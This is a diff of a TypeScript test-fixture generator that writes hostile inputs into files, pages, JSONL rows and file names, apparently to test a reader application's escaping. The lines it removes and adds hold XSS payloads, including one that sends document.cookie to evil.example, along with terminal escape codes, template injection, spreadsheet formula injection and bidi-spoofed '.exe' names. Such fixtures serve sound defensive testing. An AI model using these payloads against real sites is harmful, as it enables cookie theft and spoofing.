@@ -1,21 +1,8 @@
 import { mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
+import { ATTACKS } from "./attacks.ts";
 
-/** Sentences in every field that a reader takes over, so that whatever a page can do to a desk is tried in each. */
-const ATTACKS = [
-  `<img src=x onerror="alert(1)">`,
-  `"><script>alert(1)</script>`,
-  `javascript:alert(1)`,
-  `<svg/onload=fetch("http://evil.example/"+document.cookie)>`,
-  `\u202Egnitirw desrever\u202C`,
-  `\u0007\u001B[2J\u001B]0;owned\u0007`,
-  `{{constructor.constructor('alert(1)')()}}`,
-  `</textarea></title></style></script><iframe src="http://evil.example/"></iframe>`,
-  `=HYPERLINK("http://evil.example/","open")`,
-  `احمد مسعود <b>said</b> \u2066hidden\u2069`,
-] as const;
-
-/** Puts documents that mean harm into a folder: pages, texts, rows, a mail, and files with odd names. Gives how many. */
+/** Puts documents that mean harm into a folder: pages, texts, rows, a mail, and files with odd names. Gives how many there are. */
 export function putHostile(folder: string): number {
   mkdirSync(folder, { recursive: true });
   for (const [i, attack] of ATTACKS.entries()) {
@@ -23,20 +10,22 @@ export function putHostile(folder: string): number {
     writeFileSync(join(folder, `text-${i}.txt`), `${attack}\n\n${spoken}\n`);
     writeFileSync(join(folder, `page-${i}.html`), page(escapeHtml(attack), escapeHtml(spoken), attack));
   }
-  const rows = ATTACKS.map((attack, i) =>
-    JSON.stringify({
-      text: `Mara Tenn said ${attack} was true.`,
-      title: attack,
-      outlet: attack,
-      url: `javascript:alert(${i})`,
-      id: attack,
-    }),
-  );
-  writeFileSync(join(folder, "rows.jsonl"), rows.join("\n"));
-  writeFileSync(join(folder, "<img src=x onerror=alert(1)>.txt"), "Mara Tenn said the bridge was open.\n");
+  writeFileSync(join(folder, "rows.jsonl"), ATTACKS.map(row).join("\n"));
+  for (const name of ODD_NAMES) writeFileSync(join(folder, name), `Mara Tenn said the gate of ${name} was open.\n`);
   writeFileSync(join(folder, "mail.eml"), MAIL);
-  return ATTACKS.length * 3 + 2;
+  return ATTACKS.length * 3 + ODD_NAMES.length + 1;
 }
+
+const ODD_NAMES = ["<img src=x onerror=alert(1)>.txt", "\u202Etxt.exe.txt", "=cmd.txt"];
+
+const row = (attack: string, i: number) =>
+  JSON.stringify({
+    text: `Mara Tenn said ${attack} was true.`,
+    title: attack,
+    outlet: attack,
+    url: `javascript:alert(${i})`,
+    id: `${attack}${i}`,
+  });
 
 const escapeHtml = (words: string) => words.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
 
